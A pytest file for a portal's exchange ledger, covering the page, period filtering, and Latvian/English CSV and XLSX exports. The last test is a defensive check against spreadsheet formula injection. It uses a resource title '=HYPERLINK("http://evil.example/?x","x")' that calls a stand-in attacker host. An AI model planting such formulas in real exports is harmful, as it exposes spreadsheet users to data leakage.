"""The ledger of what an organization gave and received: the page, its period filter, and its exports —
CSV in Latvian as Excel in Latvia expects it and in English, XLSX with numbers and dates, a zero as zero and a
formula in a title as text."""
import csv
import io
import re
from datetime import date, timedelta
from decimal import Decimal

import pytest
from babel.numbers import format_currency

from portal.exchanges import services
from portal.extensions import db

from .exchange_helpers import cells, en_date, page, row_of, section
from .exchange_helpers import outsider, requester  # noqa: F401  (fixtures)
from .factories import make_resource
from .helpers import client_for


# ---------------------------------------------------------------- ledger

@pytest.fixture
def ledger_world(world, outsider):
    """Completed exchanges of org B in early 2025 (with explicit `today`s), and some that do not count."""
    sound = make_resource(world.other_representative, title="Skaņas aparatūra āra pasākumiem", category="equipment",
                          quantity=1, unit="komplekts", handover="delivery")

    def done(requester, owner, resource, start, days, value, units=None, today=date(2025, 1, 2)):
        end = start + timedelta(days=days - 1)
        exchange = services.request_exchange(requester, resource, starts_on=start, ends_on=end, quantity=1,
                                             hours=None, purpose="Pasākums", message="", today=today)
        services.accept(owner, exchange, today=today)
        if value is not False:
            services.complete(requester, exchange, value_units=units, value_eur=value, today=end)
        return exchange

    gave = done(world.other_member, world.representative, world.resource, date(2025, 2, 10), 2,
                Decimal("160.00"), Decimal("2"))
    received = done(world.member, world.other_representative, sound, date(2025, 3, 5), 1, Decimal("25.50"))
    gave_later = done(outsider, world.member, world.resource, date(2025, 4, 20), 1, Decimal("80.00"), Decimal("1"))
    still_open = done(world.other_member, world.representative, world.resource, date(2025, 3, 1), 1, False)
    db.session.commit()
    return {"gave": gave, "received": received, "gave_later": gave_later, "still_open": still_open}


def eur(value: str) -> str:
    return format_currency(Decimal(value), "EUR", locale="en")


def test_the_ledger_lists_what_was_given_and_received(app, world, ledger_world):
    owner = client_for(app, world.representative)
    html = page(owner.get("/ledger?lang=en"))
    table = section(html, "ledger")
    for key, direction, other, value in (("gave", "given", "Sukrums", "160.00"),
                                         ("received", "received", "Sukrums", "25.50"),
                                         ("gave_later", "given", "Daugavas krasts", "80.00")):
        exchange = ledger_world[key]
        row = row_of(table, exchange.id)
        assert direction in cells(row) and other in row and eur(value) in row
        shown = en_date(exchange.starts_on) if exchange.starts_on == exchange.ends_on else \
            f"{en_date(exchange.starts_on)} – {en_date(exchange.ends_on)}"
        assert shown in cells(row)
    assert f'href="/exchanges/{ledger_world["still_open"].id}"' not in table
    totals = section_text(html, "ledger-totals")
    assert totals == f"Given: {eur('240.00')} · Received: {eur('25.50')}"

    # The other side sees the same exchanges the other way round.
    requester_table = section(page(client_for(app, world.other_member).get("/ledger?lang=en")), "ledger")
    assert "received" in cells(row_of(requester_table, ledger_world["gave"].id))
    assert "given" in cells(row_of(requester_table, ledger_world["received"].id))
    assert f'href="/exchanges/{ledger_world["gave_later"].id}"' not in requester_table


def section_text(html: str, testid: str) -> str:
    match = re.search(rf'<p[^>]*data-testid="{testid}"[^>]*>(.*?)</p>', html, re.S)
    assert match, testid
    return match.group(1).strip()


def test_the_ledger_filters_by_period(app, world, ledger_world):
    owner = client_for(app, world.representative)
    html = page(owner.get("/ledger?lang=en&start=2025-02-01&end=2025-03-31"))
    table = section(html, "ledger")
    assert f'href="/exchanges/{ledger_world["gave"].id}"' in table
    assert f'href="/exchanges/{ledger_world["received"].id}"' in table
    assert f'href="/exchanges/{ledger_world["gave_later"].id}"' not in table
    assert section_text(html, "ledger-totals") == f"Given: {eur('160.00')} · Received: {eur('25.50')}"
    assert 'value="2025-02-01"' in html and 'value="2025-03-31"' in html
    only_april = section(page(owner.get("/ledger?start=2025-04-01")), "ledger")
    assert f'href="/exchanges/{ledger_world["gave_later"].id}"' in only_april
    assert f'href="/exchanges/{ledger_world["gave"].id}"' not in only_april
    nothing = page(owner.get("/ledger?lang=en&end=2024-12-31"))
    assert "No completed exchanges in this period." in nothing


def read_csv(response, separator=";") -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")  # for spreadsheet programs
    return list(csv.reader(io.StringIO(text[1:]), delimiter=separator))


def test_the_ledger_exports_csv_in_latvian_as_excel_expects_it_in_latvia(app, world, ledger_world):
    owner = client_for(app, world.representative)
    rows = read_csv(owner.get("/ledger.csv"))
    assert rows[0] == ["Nr.", "Virziens", "Otra organizācija", "Resurss", "No", "Līdz", "Vienību skaits",
                       "Mērvienība", "Vērtība, EUR", "Pabeigta", "Apstiprinājums"]
    body = {row[0]: row for row in rows[1:]}
    assert len(rows) == 4 and len(body) == 3
    gave, received, later = ledger_world["gave"], ledger_world["received"], ledger_world["gave_later"]
    assert body[str(gave.id)][:9] == [str(gave.id), "sniegts", "Sukrums", world.resource.title, "2025-02-10",
                                      "2025-02-11", "2,00", "", "160,00"]
    assert body[str(received.id)][:9] == [str(received.id), "saņemts", "Sukrums",
                                          "Skaņas aparatūra āra pasākumiem", "2025-03-05", "2025-03-05", "", "",
                                          "25,50"]
    assert body[str(later.id)][1:3] == ["sniegts", "Daugavas krasts"] and body[str(later.id)][8] == "80,00"
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}", row[9]) for row in rows[1:])
    assert sum(Decimal(row[8].replace(",", ".")) for row in rows[1:] if row[1] == "sniegts") == Decimal("240.00")

    filtered = read_csv(owner.get("/ledger.csv?start=2025-02-01&end=2025-03-31"))
    assert sorted(row[0] for row in filtered[1:]) == sorted([str(gave.id), str(received.id)])
    empty = read_csv(client_for(app, world.coordinator).get("/ledger.csv"))
    assert empty == [rows[0]]


def test_the_ledger_csv_in_english_uses_commas_and_decimal_points(app, world, ledger_world):
    rows = read_csv(client_for(app, world.representative).get("/ledger.csv?lang=en"), separator=",")
    assert rows[0] == ["No.", "Direction", "Other organization", "Resource", "From", "To", "Quantity of units",
                       "Unit", "Value, EUR", "Completed", "Confirmation"]
    gave = {row[0]: row for row in rows[1:]}[str(ledger_world["gave"].id)]
    assert gave[1] == "given" and gave[6:9] == ["2.00", "", "160.00"]


def test_the_ledger_downloads_as_xlsx_with_numbers_and_dates(app, world, ledger_world):
    from openpyxl import load_workbook

    response = client_for(app, world.representative).get("/ledger.xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in response.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("Nr.", "Virziens", "Otra organizācija")
    gave = {row[0]: row for row in rows[1:]}[ledger_world["gave"].id]
    assert gave[1] == "sniegts" and gave[4].date() == date(2025, 2, 10) and gave[8] == 160.0


def test_a_zero_value_is_exported_as_zero_not_as_nothing(app, world):
    """A free loan completed at 0 EUR: the page shows €0.00, and the CSV must say 0,00 too (an empty
    cell means "no value recorded")."""
    exchange = services.request_exchange(world.other_member, world.resource, starts_on=date(2025, 5, 6),
                                         ends_on=date(2025, 5, 6), quantity=1, hours=None, purpose="Pasākums",
                                         message="", today=date(2025, 5, 1))
    services.accept(world.representative, exchange, today=date(2025, 5, 1))
    services.complete(world.representative, exchange, value_units=Decimal("0"), value_eur=Decimal("0"),
                      today=date(2025, 5, 6))
    db.session.commit()
    owner = client_for(app, world.representative)
    assert eur("0.00") in row_of(section(page(owner.get("/ledger?lang=en")), "ledger"), exchange.id)
    rows = read_csv(owner.get("/ledger.csv?lang=lv"))
    assert rows[1][0] == str(exchange.id)
    assert rows[1][6] == "0,00" and rows[1][8] == "0,00"


def test_a_formula_in_a_title_reaches_the_partners_exports_as_text(app, world):
    """Issue 11 #10: a resource titled =HYPERLINK(…) must not be a live formula in the partner's ledger."""
    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://evil.example/?x","x")'
    trap = make_resource(world.representative, title=formula, quantity=1)
    exchange = services.request_exchange(world.other_member, trap, starts_on=date(2025, 5, 6),
                                         ends_on=date(2025, 5, 6), quantity=1, hours=None, purpose="Pasākums",
                                         message="", today=date(2025, 5, 1))
    services.accept(world.representative, exchange, today=date(2025, 5, 1))
    services.complete(world.representative, exchange, value_units=None, value_eur=Decimal("5"),
                      today=date(2025, 5, 6))
    db.session.commit()
    partner = client_for(app, world.other_member)
    rows = read_csv(partner.get("/ledger.csv"))
    assert rows[1][3] == "'" + formula
    cell = load_workbook(io.BytesIO(partner.get("/ledger.xlsx").get_data())).active.cell(row=2, column=4)
    assert cell.value == formula and cell.data_type == "s" and cell.quotePrefix
